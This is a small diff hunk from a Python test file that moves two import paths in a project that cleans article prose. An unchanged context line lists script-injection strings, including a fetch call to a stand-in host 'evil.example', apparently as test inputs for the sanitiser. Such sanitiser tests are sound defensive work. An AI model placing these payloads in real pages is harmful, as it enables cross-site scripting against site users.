@@ -18,8 +18,8 @@ from hypothesis import strategies as st
 
 from iecguide.articles.models import Article
 from iecguide.articles.prose import CLASSES, DEEPEST, TAGS, clean
-from iecguide.articles.rendering import rendered, structure
-from iecguide.facts.placeholders import Placeholder, names_in
+from iecguide.articles.reading.rendering import rendered, structure
+from iecguide.facts.placeholders.book import Placeholder, names_in
 from iecguide.facts.values import Confidence, Source
 
 CODE = ("alert(1)", "fetch('//evil.example')", "document.body.innerHTML='x'")
